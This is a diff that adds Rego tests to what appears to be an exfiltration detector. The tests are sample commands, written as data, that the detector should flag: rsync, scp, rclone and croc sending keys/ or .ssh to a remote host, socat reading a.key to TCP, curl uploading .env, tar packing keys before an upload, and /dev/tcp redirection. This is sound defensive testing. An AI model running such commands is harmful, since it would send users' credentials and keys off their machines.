@@ -137,3 +137,38 @@ test_finds_what_is_sent_beside_the_key if {
 		_found([command]) == {command.program}
 	}
 }
+
+test_finds_what_the_shell_sends if {
+	_found([_shown[2], _command(["/dev/tcp", "/dev/tcp/h/1", "--sends"], ["/dev/tcp/h/1"], ["--sends"])]) == {"/dev/tcp"}
+	_found([_shown[2], _command(["/dev/tcp", "/dev/tcp/h/1", "--gives"], ["/dev/tcp/h/1"], ["--gives"])]) == set()
+}
+
+test_finds_a_folder_that_leaves if {
+	every program in ["rsync", "scp", "rclone"] {
+		_found([_command([program, "keys/", "h:"], ["keys/", "h:"], [])]) == {program}
+		_found([_command([program, "h:keys/", "keys"], ["h:keys/", "keys"], [])]) == set()
+		_found([_command([program, "site", "h:/etc/certs/"], ["site", "h:/etc/certs/"], [])]) == set()
+	}
+	_found([_command(["croc", "send", ".ssh"], ["send", ".ssh"], [])]) == {"croc"}
+	_found([_command(["rsync", "-n", "keys/", "h:"], ["keys/", "h:"], ["-n"])]) == set()
+}
+
+test_finds_what_a_packer_puts_into_a_file_that_is_sent if {
+	sent := _command(["curl", "-T", "p", "x"], ["x"], ["-T"])
+	_found([_command(["tar", "cf", "p", "keys"], ["cf", "p", "keys"], []), sent]) == {"curl"}
+	_found([_command(["tar", "-x", "keys"], ["keys"], ["-x"]), sent]) == set()
+	_found([_command(["tar", "cf", "p", "dist"], ["cf", "p", "dist"], []), sent]) == set()
+}
+
+test_finds_a_secret_in_quotes_and_beside_options if {
+	_found([_command(["socat", "OPEN:\"a.key\",rdonly", "TCP:h:1"], [], [])]) == {"socat"}
+	_found([_command(["socat", "OPEN:a.k\\ey", "TCP:h:1"], [], [])]) == {"socat"}
+	_found([_command(["curl", "-F", "f=@.env;type=a", "x"], ["x"], ["-F"])]) == {"curl"}
+}
+
+test_an_input_of_http_is_sent_and_an_empty_environment_tells_nothing if {
+	_found([_shown[0], _command(["http", "h"], ["h"], [])]) == {"http"}
+	_found([_shown[0], _command(["http", "--offline", "h"], ["h"], ["--offline"])]) == set()
+	_found([_shown[0], _command(["http", "--ignore-stdin", "h"], ["h"], ["--ignore-stdin"])]) == set()
+	_found([_command(["env", "-i"], [], ["-i"]), _curl]) == set()
+}
